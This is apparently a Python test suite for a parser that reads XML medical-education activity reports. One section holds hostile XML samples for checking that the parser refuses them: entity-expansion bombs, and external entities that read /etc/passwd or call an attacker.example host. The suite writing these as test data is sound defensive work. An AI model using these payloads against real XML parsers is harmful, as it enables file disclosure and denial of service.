"""The MEMS-based activity XML reader: mapping, namespaces, actions, hostile files, scale."""

from __future__ import annotations

import datetime
import io
import resource
import time
import tracemalloc
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from pars.activities.parsers.xml import MAX_GAP_BYTES, read_xml
from pars.activities.validation import validate_activity
from pars.activities.xml_schema import validate_against_mems
from pars.intake.readers import FileRejected, ParsedRow

TODAY = datetime.date(2026, 11, 27)
DATA = Path(__file__).parent / "data"
V1 = "http://ns.medbiq.org/metrics/v1/"
V2 = "http://ns.medbiq.org/metrics/v2/"

# Reference section 4.5, verbatim.
SKELETON = """\
<ACCMEActivities xmlns="http://ns.medbiq.org/metrics/v1/"
                 xmlns:lom="http://ltsc.ieee.org/xsd/LOM"
                 xmlns:hx="http://ns.medbiq.org/lom/extend/v1/"
                 xmlns:a="http://ns.medbiq.org/address/v1/"
                 xmlns:x="urn:example:accme-extensions">
  <MedicalEducationMetrics>
    <ReportDescription>
      <ReportingStartDate>2024-03-01</ReportingStartDate>
      <ReportingEndDate>2024-03-02</ReportingEndDate>
    </ReportDescription>
    <ActivityDescription>
      <lom:lom>
        <lom:general>
          <lom:identifier><lom:catalog>Provider Activity ID</lom:catalog><lom:entry>GR-2024-001</lom:entry></lom:identifier>
          <lom:title><lom:string language="en">Cardiology Update</lom:string></lom:title>
          <lom:description><lom:string language="en">…</lom:string></lom:description>
        </lom:general>
        <hx:healthcareMetadata><hx:healthcareEducation>
          <hx:credits><hx:activityCertification>AMA PRA Category 1</hx:activityCertification><hx:numberOfCredits>6.5</hx:numberOfCredits></hx:credits>
          <hx:activityLocation><a:City>Chicago</a:City><a:StateOrProvince>IL</a:StateOrProvince><a:Country><a:CountryCode>USA</a:CountryCode></a:Country></hx:activityLocation>
          <hx:startDateTime>2024-03-01T00:00:00</hx:startDateTime>
          <hx:endDateTime>2024-03-02T00:00:00</hx:endDateTime>
          <hx:activitySponsorship>direct</hx:activitySponsorship>
          <hx:activityFormat><lom:string language="en">Course</lom:string></hx:activityFormat>
          <hx:commercialSupport>yes</hx:commercialSupport>
        </hx:healthcareEducation></hx:healthcareMetadata>
      </lom:lom>
      <CommercialSupportAmount currency="USD" supportSource="Example Pharma">5000</CommercialSupportAmount>
    </ActivityDescription>
    <ParticipationMetrics>
      <ParticipantsByCategory category="physician">120</ParticipantsByCategory>
      <ParticipantsByCategory category="non-physician">35</ParticipantsByCategory>
    </ParticipationMetrics>
    <XtensibleInfo>
      <x:DeliveryMethods><x:DeliveryMethod>In-Person</x:DeliveryMethod></x:DeliveryMethods>
      <x:MeasuredOutcomes><x:MeasuredOutcome>Learner Competence</x:MeasuredOutcome></x:MeasuredOutcomes>
      <x:activityRecordAction>Add</x:activityRecordAction>
      <x:closeActivityRecord>true</x:closeActivityRecord>
    </XtensibleInfo>
  </MedicalEducationMetrics>
</ACCMEActivities>
"""  # noqa: E501 (verbatim)

NAMESPACES = (
    'xmlns:lom="http://ltsc.ieee.org/xsd/LOM" xmlns:hx="http://ns.medbiq.org/lom/extend/v1/" '
    'xmlns:a="http://ns.medbiq.org/address/v1/" xmlns:x="urn:example:accme-extensions"'
)


def activity(
    *,
    identifier: str = "GR-1",
    general: str = "",
    education: str = "",
    amounts: str = "",
    participation: str = "",
    extensions: str = "",
) -> str:
    """One MedicalEducationMetrics in MEMS v1 order, with the given inner parts."""
    return f"""
  <MedicalEducationMetrics>
    <ReportDescription>
      <ReportingStartDate>2026-03-01</ReportingStartDate>
      <ReportingEndDate>2026-03-02</ReportingEndDate>
    </ReportDescription>
    <ActivityDescription>
      <lom:lom>
        <lom:general>
          <lom:identifier><lom:catalog>Provider Activity ID</lom:catalog><lom:entry>{identifier}</lom:entry></lom:identifier>
          <lom:title><lom:string language="en">Cardiology Update</lom:string></lom:title>
          {general}
        </lom:general>
        <hx:healthcareMetadata><hx:healthcareEducation>
          <hx:startDateTime>2026-03-01T00:00:00</hx:startDateTime>
          <hx:endDateTime>2026-03-02T00:00:00</hx:endDateTime>
          <hx:activityFormat><lom:string language="en">Course</lom:string></hx:activityFormat>
          {education}
        </hx:healthcareEducation></hx:healthcareMetadata>
      </lom:lom>
      {amounts}
    </ActivityDescription>
    <ParticipationMetrics>{participation}</ParticipationMetrics>
    <XtensibleInfo>{extensions}</XtensibleInfo>
  </MedicalEducationMetrics>"""  # noqa: E501


def document(*activities: str, namespace: str = V1) -> bytes:
    body = "".join(activities)
    return f'<ACCMEActivities xmlns="{namespace}" {NAMESPACES}>{body}\n</ACCMEActivities>'.encode()


def parse(data: bytes | str) -> list[ParsedRow]:
    raw = data.encode() if isinstance(data, str) else data
    return list(read_xml(io.BytesIO(raw)))


def only(data: bytes | str) -> dict[str, Any]:
    rows = parse(data)
    assert len(rows) == 1
    assert rows[0].problem is None
    return rows[0].data


def clean_values(data: dict[str, Any]) -> Any:
    clean, errors = validate_activity(data, row=1, today=TODAY)
    assert errors == []
    assert clean is not None
    return clean


# ---------------------------------------------------------------------------
# The reference's skeleton and the golden sample


def test_the_reference_skeleton_maps_to_raw_fields() -> None:
    assert only(SKELETON) == {
        "reporting_year": "2024",
        "provider_activity_id": "GR-2024-001",
        "title": "Cardiology Update",
        "description": "…",
        "ama_credits": "6.5",
        "city": "Chicago",
        "state": "IL",
        "country": "USA",
        "start_date": "2024-03-01",
        "end_date": "2024-03-02",
        "providership": "direct",
        "activity_format": "Course",
        "commercial_support_received": "yes",
        "supporters": [
            {
                "source": "Example Pharma",
                "monetary_amount": "5000",
                "in_kind": False,
                "in_kind_description": None,
            }
        ],
        "physician_learners": "120",
        "other_learners": "35",
        "delivery_methods": ["In-Person"],
        "outcome_measures": [{"outcome": "Learner Competence", "measurement_types": []}],
        "action": "add",
        "status": "closed",
    }


def test_the_reference_skeleton_validates() -> None:
    # The skeleton asks to close a 2024 activity but predates the CME Passport question
    # (required from 2022): that is the one thing the validator asks for.
    _, errors = validate_activity(only(SKELETON), row=1, today=TODAY)
    assert [error.rule for error in errors] == ["activity.listed_on_passport.required"]

    answered = SKELETON.replace(
        "<x:activityRecordAction>",
        "<x:ForPublicList>false</x:ForPublicList><x:activityRecordAction>",
    )
    clean = clean_values(only(answered))
    assert clean.action == "upsert"
    assert clean.values["status"] == "closed"
    assert clean.values["activity_format"] == "course"
    assert clean.values["delivery_methods"] == ["in_person"]
    assert clean.values["ama_credits"] == Decimal("6.5")
    assert clean.values["start_date"] == datetime.date(2024, 3, 1)
    assert clean.values["outcome_measures"] == [
        {"outcome": "learner_competence", "measurement_types": []}
    ]
    assert clean.supporters[0]["source"] == "Example Pharma"
    assert clean.supporters[0]["monetary_amount"] == 5000


def test_the_reference_skeleton_is_valid_mems_v1() -> None:
    assert validate_against_mems(io.BytesIO(SKELETON.encode())) == []


def golden_rows() -> list[ParsedRow]:
    with (DATA / "sample_mems.xml").open("rb") as stream:
        return list(read_xml(stream))


def test_golden_sample_rows_and_actions() -> None:
    rows = golden_rows()
    assert [row.row for row in rows] == [1, 2, 3, 4, 5]
    assert all(row.problem is None for row in rows)
    assert [row.data["provider_activity_id"] for row in rows] == [
        "GOLD-001",
        "GOLD-002",
        "GOLD-003",
        "GOLD-004",
        "GOLD-099",
    ]
    assert [row.data["action"] for row in rows] == ["add", "add", "update", "add", "delete"]
    cleaned = [validate_activity(row.data, row=row.row, today=TODAY) for row in rows]
    assert [errors for _, errors in cleaned] == [[]] * 5
    actions = [(clean.action, clean.values.get("status")) for clean, _ in cleaned if clean]
    assert actions == [
        ("upsert", "closed"),
        ("upsert", "active"),
        ("upsert", "closed"),
        ("upsert", "draft"),
        ("delete", None),
    ]


def test_golden_live_course() -> None:
    clean = clean_values(golden_rows()[0].data)
    values = clean.values
    assert values["title"] == "Cardiology Update"
    assert values["activity_format"] == "course"
    assert values["delivery_methods"] == ["in_person"]
    assert (values["city"], values["state"], values["country"]) == ("Chicago", "IL", "USA")
    assert values["start_date"] == datetime.date(2026, 3, 1)
    assert values["end_date"] == datetime.date(2026, 3, 2)
    assert values["reporting_year"] == 2026
    assert values["providership"] == "direct"
    assert values["ama_credits"] == Decimal("6.5")
    assert (values["physician_learners"], values["other_learners"]) == (120, 35)
    assert values["commercial_support_received"] is True
    assert values["outcome_measures"] == [
        {"outcome": "learner_competence", "measurement_types": ["objective"]}
    ]
    assert values["description"] == "Heart failure and arrhythmia, for internists."
    assert values["listed_on_passport"] is False
    assert [(s["source"], s["monetary_amount"], s["in_kind"]) for s in clean.supporters] == [
        ("Example Pharma", 5000, False),
        ("Device Co", None, True),
    ]


def test_golden_enduring_joint_series_and_journal() -> None:
    rows = golden_rows()
    enduring = clean_values(rows[1].data).values
    assert enduring["activity_format"] == "enduring"
    assert enduring["delivery_methods"] == ["online"]
    assert enduring["listed_on_passport"] is True
    assert (enduring["fee"], enduring["registration"]) == ("free", "open")
    assert enduring["activity_url"] == "https://learn.example.org/hf-essentials"
    assert enduring["commercial_support_received"] is False

    series = clean_values(rows[2].data).values
    assert series["activity_format"] == "rss"
    assert series["providership"] == "joint"
    assert series["joint_providers"] == ["Community Hospital Foundation"]
    assert series["delivery_methods"] == ["in_person", "live_streamed"]
    assert series["outcome_measures"] == [
        {"outcome": "learner_performance", "measurement_types": ["objective", "subjective"]},
        {"outcome": "patient_health", "measurement_types": ["subjective"]},
    ]
    assert (series["physician_learners"], series["other_learners"]) == (1040, 310)

    journal = clean_values(rows[3].data).values
    assert journal["activity_format"] == "journal"
    assert journal["meets_mips"] is True
    assert journal["ama_credits"] == Decimal(1)


def test_golden_sample_is_valid_mems_v1() -> None:
    assert validate_against_mems(DATA / "sample_mems.xml") == []


# ---------------------------------------------------------------------------
# Namespaces, versions and spellings


def test_metrics_v1_and_v2_namespaces_read_alike() -> None:
    parts: dict[str, str] = {
        "education": "<hx:activitySponsorship>direct</hx:activitySponsorship>",
        "participation": '<ParticipantsByCategory category="physician">12</ParticipantsByCategory>',
    }
    assert only(document(activity(**parts), namespace=V1)) == only(
        document(activity(**parts), namespace=V2)
    )


def test_metrics_v2_structures() -> None:
    # Metrics v2 counts are {CategoryName, Number}; the healthcare LOM edition that goes
    # with it names the format activityOrResourceFormat. This file is valid MEMS v2.
    v2 = f"""<ACCMEActivities xmlns="{V2}" {NAMESPACES}>
  <MedicalEducationMetrics>
    <ReportDescription><ReportingStartDate>2026-03-01</ReportingStartDate><ReportingEndDate>2026-03-02</ReportingEndDate></ReportDescription>
    <ActivityDescription>
      <lom:lom>
        <lom:general>
          <lom:identifier><lom:catalog>Provider Activity ID</lom:catalog><lom:entry>V2-1</lom:entry></lom:identifier>
          <lom:title><lom:string language="en">Sepsis Update</lom:string></lom:title>
        </lom:general>
        <hx:healthcareMetadata><hx:healthcareEducation>
          <hx:startDateTime>2026-03-01T08:00:00</hx:startDateTime>
          <hx:endDateTime>2026-03-02T17:00:00</hx:endDateTime>
          <hx:activityOrResourceFormat><lom:string language="en">RSS</lom:string></hx:activityOrResourceFormat>
        </hx:healthcareEducation></hx:healthcareMetadata>
      </lom:lom>
    </ActivityDescription>
    <ParticipationMetrics>
      <ParticipantsByCategory><CategoryName>physician</CategoryName><Number>40</Number></ParticipantsByCategory>
      <ParticipantsByCategory><CategoryName>nurse</CategoryName><Number>7</Number></ParticipantsByCategory>
      <ParticipantsByCategory><CategoryName>pharmacist</CategoryName><Number>3</Number></ParticipantsByCategory>
    </ParticipationMetrics>
  </MedicalEducationMetrics>
</ACCMEActivities>"""  # noqa: E501
    data = only(v2)
    assert data["activity_format"] == "RSS"
    assert (data["start_date"], data["end_date"]) == ("2026-03-01", "2026-03-02")
    assert (data["physician_learners"], data["other_learners"]) == ("40", "10")
    assert validate_against_mems(io.BytesIO(v2.encode())) == []


def test_activities_without_namespace_are_read() -> None:
    bare = document(activity(), namespace=V1).replace(f'xmlns="{V1}" '.encode(), b"")
    bare = bare.replace(b"lom:", b"").replace(b"hx:", b"").replace(b"a:", b"")
    assert only(bare)["provider_activity_id"] == "GR-1"


def test_an_activity_in_a_foreign_namespace_is_a_row_problem() -> None:
    rows = parse(document(activity(), namespace="http://ns.medbiq.org/metrics/v1"))
    assert rows[0].data == {}
    assert rows[0].problem is not None
    assert "http://ns.medbiq.org/metrics/v1/" in rows[0].problem


def test_elements_of_other_namespaces_in_the_mems_part_are_ignored() -> None:
    data = only(
        document(
            activity(
                general='<lom:description><lom:string language="fr">Mise à jour</lom:string>'
                '<lom:string language="en">An update</lom:string></lom:description>'
                '<y:title xmlns:y="urn:other">Not the title</y:title>'
            )
        )
    )
    assert data["title"] == "Cardiology Update"
    assert data["description"] == "An update"


def test_json_draft_spellings_and_placement() -> None:
    # The 2025 JSON draft: Lom and healthcareMetadata beside ActivityDescription,
    # lower-case location names with the values directly inside.
    draft = f"""<ACCMEActivities xmlns="{V1}" {NAMESPACES}>
  <MedicalEducationMetrics>
    <ActivityDescription>
      <commercialSupportAmount><currency>USD</currency><supportSource>Example Pharma</supportSource><value>750</value></commercialSupportAmount>
    </ActivityDescription>
    <Lom><general>
      <identifier><catalog>Provider Activity ID</catalog><entry>J-1</entry></identifier>
      <identifier><catalog>ACCME Activity ID</catalog><entry>123456789</entry></identifier>
      <title>Stroke Care</title>
    </general></Lom>
    <healthcareMetadata><healthcareEducation>
      <activityLocation><city>Toronto</city><stateOrProvince>ON</stateOrProvince><country>CAN</country></activityLocation>
      <startDateTime>2026-04-01</startDateTime>
    </healthcareEducation></healthcareMetadata>
    <ParticipationMetrics>
      <participantsByCategory><category>physician</category><numberOfParticipants>9</numberOfParticipants></participantsByCategory>
    </ParticipationMetrics>
  </MedicalEducationMetrics>
</ACCMEActivities>"""  # noqa: E501
    data = only(draft)
    assert data["provider_activity_id"] == "J-1"
    assert data["accme_activity_id"] == "123456789"
    assert data["title"] == "Stroke Care"
    assert (data["city"], data["state"], data["country"]) == ("Toronto", "ON", "CAN")
    assert data["start_date"] == "2026-04-01"
    assert data["physician_learners"] == "9"
    assert data["supporters"][0]["source"] == "Example Pharma"
    assert data["supporters"][0]["monetary_amount"] == "750"


def test_country_name_and_a_bare_mems_document() -> None:
    single = (
        activity(
            education="<hx:activityLocation><a:City>Lyon</a:City>"
            "<a:Country><a:CountryName>France</a:CountryName></a:Country></hx:activityLocation>"
        )
        .strip()
        .replace(
            "<MedicalEducationMetrics>", f'<MedicalEducationMetrics xmlns="{V1}" {NAMESPACES}>'
        )
    )
    rows = parse(single)
    assert [row.row for row in rows] == [1]
    assert rows[0].data["country"] == "France"
    assert clean_values(rows[0].data).values["country"] == "FRA"


def test_extension_values_and_legacy_fields() -> None:
    extensions = """
      <e:ForPublicList xmlns:e="urn:any">Yes</e:ForPublicList>
      <x:FeeForParticipation>Variable</x:FeeForParticipation>
      <x:ActivityRegistration>Limited</x:ActivityRegistration>
      <x:IsMeritBasedIncentivePaymentSystem>true</x:IsMeritBasedIncentivePaymentSystem>
      <x:DeliveryMethods><x:DeliveryMethod>In-Person</x:DeliveryMethod></x:DeliveryMethods>
      <x:DeliveryMethods><x:DeliveryMethod>Live-Streamed</x:DeliveryMethod></x:DeliveryMethods>
      <x:MeasuredOutcomes>
        <x:MeasurementType>Subjective</x:MeasurementType>
        <x:MeasuredOutcome>Learner Knowledge</x:MeasuredOutcome>
      </x:MeasuredOutcomes>
      <x:HoursOfInstruction>3.5</x:HoursOfInstruction>
      <x:LearningFormats><x:LearningFormat>Lecture</x:LearningFormat></x:LearningFormats>
      <x:Competencies><x:Competency>Medical Knowledge</x:Competency></x:Competencies>
      <x:ActivityStatus>Draft</x:ActivityStatus>
    """
    amounts = """
      <AdvertisingAndExhibitIncome currency="USD">100</AdvertisingAndExhibitIncome>
      <OtherIncome currency="USD">20</OtherIncome>
      <Expenses currency="USD">3000</Expenses>
      <DesignedToChangeCompetence>true</DesignedToChangeCompetence>
      <ChangesInPatientOutcomesMeasured>0</ChangesInPatientOutcomesMeasured>
    """
    data = only(document(activity(amounts=amounts, extensions=extensions)))
    assert data["listed_on_passport"] == "Yes"
    assert (data["fee"], data["registration"], data["meets_mips"]) == (
        "Variable",
        "Limited",
        "true",
    )
    assert data["delivery_methods"] == ["In-Person", "Live-Streamed"]
    assert data["outcome_measures"] == [
        {"outcome": "Learner Knowledge", "measurement_types": ["Subjective"]}
    ]
    assert data["hours_of_instruction"] == "3.5"
    assert data["learning_formats"] == ["Lecture"]
    assert data["competencies"] == ["Medical Knowledge"]
    assert data["status"] == "Draft"
    assert (data["advertising_income"], data["other_income"], data["expenses"]) == (
        "100",
        "20",
        "3000",
    )
    assert data["designed_to_change_competence"] == "true"
    assert data["changes_measured_patient_outcomes"] == "0"


def test_supporters_merge_by_source() -> None:
    amounts = """
      <CommercialSupportAmount currency="USD" supportSource="Example Pharma">5000
      </CommercialSupportAmount>
      <CommercialSupportAmount currency="USD" supportSource="Other Pharma">250
      </CommercialSupportAmount>
    """
    extensions = """
      <x:InKindSupports>
        <x:InKindSupport>
          <x:source>example pharma</x:source><x:description>Simulators</x:description>
        </x:InKindSupport>
        <x:InKindSupport>
          <x:source>Device Co</x:source><x:InKindType>Facilities / Space</x:InKindType>
        </x:InKindSupport>
      </x:InKindSupports>
    """
    data = only(
        document(
            activity(
                education="<hx:commercialSupport>yes</hx:commercialSupport>",
                amounts=amounts,
                extensions=extensions,
            )
        )
    )
    assert data["supporters"] == [
        {
            "source": "Example Pharma",
            "monetary_amount": "5000",
            "in_kind": True,
            "in_kind_description": "Simulators",
        },
        {
            "source": "Other Pharma",
            "monetary_amount": "250",
            "in_kind": False,
            "in_kind_description": None,
        },
        {
            "source": "Device Co",
            "monetary_amount": None,
            "in_kind": True,
            "in_kind_description": None,
            "in_kind_types": ["Facilities / Space"],
        },
    ]
    supporters = clean_values(data).supporters
    assert [s["in_kind_types"] for s in supporters] == [[], [], ["facilities"]]


def test_joint_providers_from_every_credits_element() -> None:
    education = """
      <hx:credits>
        <hx:activityCertification>AMA PRA Category 1 Credit™</hx:activityCertification>
        <hx:nonAccreditedProvider>Foundation A</hx:nonAccreditedProvider>
        <hx:numberOfCredits>2.25</hx:numberOfCredits>
      </hx:credits>
      <hx:credits>
        <hx:activityCertification>ANCC</hx:activityCertification>
        <hx:nonAccreditedProvider>Foundation B</hx:nonAccreditedProvider>
        <hx:numberOfCredits>9</hx:numberOfCredits>
      </hx:credits>
    """
    data = only(document(activity(education=education)))
    assert data["ama_credits"] == "2.25"
    assert data["joint_providers"] == ["Foundation A", "Foundation B"]


def test_values_are_passed_raw_for_the_validator() -> None:
    data = only(
        document(
            activity(
                education="<hx:activitySponsorship>sometimes</hx:activitySponsorship>",
                participation='<ParticipantsByCategory category="physician">lots'
                "</ParticipantsByCategory>",
            )
        )
    )
    assert data["providership"] == "sometimes"
    _, errors = validate_activity(data, row=1, today=TODAY)
    assert {error.rule for error in errors} == {
        "activity.providership.not_allowed",
        "activity.physician_learners.invalid",
    }


def test_an_activity_without_lom_general_is_a_row_problem() -> None:
    broken = document(activity()).replace(b"<lom:general>", b"<lom:generale>")
    broken = broken.replace(b"</lom:general>", b"</lom:generale>")
    rows = parse(broken)
    assert rows[0].problem is not None
    assert "lom:general" in rows[0].problem


# ---------------------------------------------------------------------------
# Actions and statuses


@pytest.mark.parametrize(
    ("written", "raw", "action"),
    [("Add", "add", "upsert"), ("Update", "update", "upsert"), ("DELETE", "delete", "delete")],
)
def test_record_actions(written: str, raw: str, action: str) -> None:
    data = only(
        document(activity(extensions=f"<x:activityRecordAction>{written}</x:activityRecordAction>"))
    )
    assert data["action"] == raw
    clean, errors = validate_activity(data, row=1, today=TODAY)
    assert errors == []
    assert clean is not None
    assert clean.action == action


def test_an_unknown_action_is_left_for_the_validator() -> None:
    data = only(
        document(activity(extensions="<x:activityRecordAction>Replace</x:activityRecordAction>"))
    )
    assert data["action"] == "Replace"
    _, errors = validate_activity(data, row=1, today=TODAY)
    assert [error.rule for error in errors] == ["activity.action.not_allowed"]


@pytest.mark.parametrize(
    ("extensions", "status"),
    [
        ("<x:closeActivityRecord>true</x:closeActivityRecord>", "closed"),
        ("<x:closeActivityRecord>1</x:closeActivityRecord>", "closed"),
        ("<x:closeActivityRecord>false</x:closeActivityRecord>", None),
        ("", None),
        (
            "<x:ActivityStatus>Active</x:ActivityStatus>"
            "<x:closeActivityRecord>false</x:closeActivityRecord>",
            "Active",
        ),
    ],
)
def test_close_activity_record(extensions: str, status: str | None) -> None:
    assert only(document(activity(extensions=extensions))).get("status") == status


def test_row_numbers_count_activities() -> None:
    rows = parse(document(*(activity(identifier=f"A-{n}") for n in range(1, 4))))
    assert [(row.row, row.data["provider_activity_id"]) for row in rows] == [
        (1, "A-1"),
        (2, "A-2"),
        (3, "A-3"),
    ]


def test_an_empty_activity_list_has_no_rows() -> None:
    assert parse(document()) == []


# ---------------------------------------------------------------------------
# Refused files


def _maxrss_bytes() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024  # Linux: KiB


def refuse(data: bytes) -> str:
    """Parse hostile `data`: refused within a second, with no memory growth."""
    before = _maxrss_bytes()
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(FileRejected) as refused:
            parse(data)
        elapsed = time.monotonic() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 1.0
    assert peak < 10 * 1024 * 1024
    assert _maxrss_bytes() - before < 50 * 1024 * 1024
    return refused.value.message


LONG_COMMENT = b"<!--" + b" padding " * 40_000 + b"-->\n"  # past the byte pre-scan
_LAUGHS = b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1)) * 10) for n in range(1, 10))
HOSTILE = {
    "billion laughs": b'<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + _LAUGHS
    + b"]><ACCMEActivities>&lol9;</ACCMEActivities>",
    "quadratic blowup": b'<!DOCTYPE r [<!ENTITY big "'
    + b"x" * 200_000
    + b'">]><ACCMEActivities>'
    + b"&big;" * 20_000
    + b"</ACCMEActivities>",
    "external entity, file": b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<ACCMEActivities>&xxe;</ACCMEActivities>",
    "external entity, URL": b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>'
    b"<ACCMEActivities>&xxe;</ACCMEActivities>",
    "external DTD": b'<!DOCTYPE ACCMEActivities SYSTEM "http://attacker.example/pars.dtd">'
    b"<ACCMEActivities/>",
    "parameter entity": b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'
    b"<ACCMEActivities/>",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_documents_are_refused_up_front(name: str) -> None:
    message = refuse(b'<?xml version="1.0"?>\n' + HOSTILE[name])
    assert "DOCTYPE" in message


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_documents_after_a_long_comment_are_refused(name: str) -> None:
    # The DOCTYPE is beyond the cheap pre-scan: the parser's own guard refuses it.
    message = refuse(b'<?xml version="1.0"?>\n' + LONG_COMMENT + HOSTILE[name])
    assert "The file has a DOCTYPE" in message


def test_a_doctype_after_a_long_comment_with_a_wrong_root_is_refused() -> None:
    message = refuse(LONG_COMMENT + b'<!DOCTYPE lolz [<!ENTITY a "b">]><lolz>&a;</lolz>')
    assert "DOCTYPE" in message


def test_the_document_info_check_backs_up_the_prolog_guard(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Were the parser target's DOCTYPE callback ever skipped, the first activity's
    # document info still shows the DOCTYPE. (An entity declaration would not even get
    # that far: the target parser has no document to declare it in.)
    monkeypatch.setattr("pars.intake.readers.xml.Prolog.doctype", lambda *args: None)
    hidden = document(activity()).replace(
        b"<ACCMEActivities",
        LONG_COMMENT + b"<!DOCTYPE ACCMEActivities><ACCMEActivities",
        1,
    )
    assert "The file has a DOCTYPE" in refuse(hidden)


def test_an_undeclared_entity_is_refused() -> None:
    message = refuse(b"<ACCMEActivities>\n&xxe;</ACCMEActivities>")
    assert message.startswith("The file is not well-formed XML at line 2")
    assert "Entity 'xxe' not defined" in message


def _line_of(data: bytes, marker: bytes) -> int:
    return data[: data.index(marker)].count(b"\n") + 1


_VALID = document(activity())
_NUL = _VALID.replace(b"Cardiology", b"Cardio\x00logy")
_LATIN1 = _VALID.replace(b"Cardiology", b"Cardiolog\xe9")
_TRUNCATED = _VALID[: _VALID.index(b"</lom:lom>")]


@pytest.mark.parametrize(
    ("data", "line", "words"),
    [
        (_NUL, _line_of(_NUL, b"\x00"), "0x0"),
        (_LATIN1, _line_of(_LATIN1, b"\xe9"), "encoding"),
        (_TRUNCATED, _TRUNCATED.count(b"\n") + 1, "Premature end of data"),
    ],
    ids=["NUL byte", "invalid UTF-8", "truncated"],
)
def test_broken_files_are_refused_with_the_line(data: bytes, line: int, words: str) -> None:
    message = refuse(data)
    assert message.startswith(f"The file is not well-formed XML at line {line},")
    assert words in message


def test_rows_before_a_broken_part_come_first_then_the_refusal() -> None:
    # The first 64 KB are checked before any row is given; past them, rows come as read.
    good = [activity(identifier=f"OK-{number}") for number in range(1, 201)]
    data = document(*good, activity(identifier="BAD\x00"))
    assert len(data) > 2 * 64 * 1024
    rows: list[ParsedRow] = []
    with pytest.raises(FileRejected, match=f"line {_line_of(data, b'BAD')},"):
        rows.extend(read_xml(io.BytesIO(data)))
    assert 0 < len(rows) <= 200
    assert rows[0].data["provider_activity_id"] == "OK-1"


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "The file is empty."),
        (b"   \n", "not well-formed"),
        (
            b"<Activities><MedicalEducationMetrics/></Activities>",
            "The root element is <Activities>",
        ),
        (
            b"<ACCMEActivities><Batch><MedicalEducationMetrics/></Batch></ACCMEActivities>",
            "must be a direct child",
        ),
    ],
    ids=["empty", "blank", "wrong root", "nested"],
)
def test_files_that_are_not_activity_xml(data: bytes, words: str) -> None:
    assert words in refuse(data)


def test_bulk_without_activities_is_refused_before_it_grows(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("pars.activities.parsers.xml.MAX_GAP_BYTES", 1024 * 1024)
    junk = b"<Junk>" + b"<j>filler</j>" * 200_000 + b"</Junk>"
    message = refuse(b"<ACCMEActivities>" + junk + b"</ACCMEActivities>")
    assert "without a complete <MedicalEducationMetrics>" in message
    assert MAX_GAP_BYTES >= 1024 * 1024  # the real limit is larger


# ---------------------------------------------------------------------------
# Scale


def write_large_file(path: Path, count: int) -> None:
    """A `count`-activity file, written as it goes."""
    with path.open("wb") as out:
        out.write(f'<ACCMEActivities xmlns="{V1}" {NAMESPACES}>\n'.encode())
        for number in range(1, count + 1):
            out.write(
                (
                    "<MedicalEducationMetrics><ReportDescription>"
                    "<ReportingStartDate>2026-03-01</ReportingStartDate>"
                    "<ReportingEndDate>2026-03-02</ReportingEndDate></ReportDescription>"
                    "<ActivityDescription><lom:lom><lom:general><lom:identifier>"
                    "<lom:catalog>Provider Activity ID</lom:catalog>"
                    f"<lom:entry>BULK-{number}</lom:entry></lom:identifier>"
                    '<lom:title><lom:string language="en">Session</lom:string></lom:title>'
                    "</lom:general><hx:healthcareMetadata><hx:healthcareEducation>"
                    "<hx:startDateTime>2026-03-01T00:00:00</hx:startDateTime>"
                    "<hx:endDateTime>2026-03-02T00:00:00</hx:endDateTime>"
                    '<hx:activityFormat><lom:string language="en">C</lom:string>'
                    "</hx:activityFormat></hx:healthcareEducation></hx:healthcareMetadata>"
                    "</lom:lom></ActivityDescription><ParticipationMetrics/>"
                    "</MedicalEducationMetrics>\n"
                ).encode()
            )
        out.write(b"</ACCMEActivities>\n")


def test_a_200000_activity_file_streams_in_flat_memory(tmp_path: Path) -> None:
    path = tmp_path / "bulk.xml"
    write_large_file(path, 200_000)
    before = _maxrss_bytes()
    tracemalloc.start()
    try:
        count = 0
        last: ParsedRow | None = None
        with path.open("rb") as stream:
            for row in read_xml(stream):
                count += 1
                last = row
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 200_000
    assert last is not None
    assert (last.row, last.data["provider_activity_id"]) == (200_000, "BULK-200000")
    assert peak < 40 * 1024 * 1024
    # libxml2's own memory is not traced: the process high-water mark must not grow by
    # anything near the file's tree (the file is about 130 MB).
    assert path.stat().st_size > 100 * 1024 * 1024
    assert _maxrss_bytes() - before < 100 * 1024 * 1024
    path.unlink()


def test_two_amounts_for_one_source_that_cannot_be_added_are_refused_not_dropped() -> None:
    from pars.activities.parsers.xml import _combine

    assert _combine("1000", "2000") == "3000"
    combined = _combine("1,000", "2000")
    _, errors = validate_activity(
        {
            "provider_activity_id": "X",
            "title": "T",
            "activity_format": "journal",
            "start_date": "2026-01-01",
            "end_date": "2026-01-01",
            "commercial_support_received": "yes",
            "supporters": [{"source": "Example Pharma", "monetary_amount": combined}],
        },
        today=TODAY,
    )
    assert [e.rule for e in errors] == ["activity.supporters.monetary_amount.invalid"]
    assert "1,000 + 2000" in errors[0].message
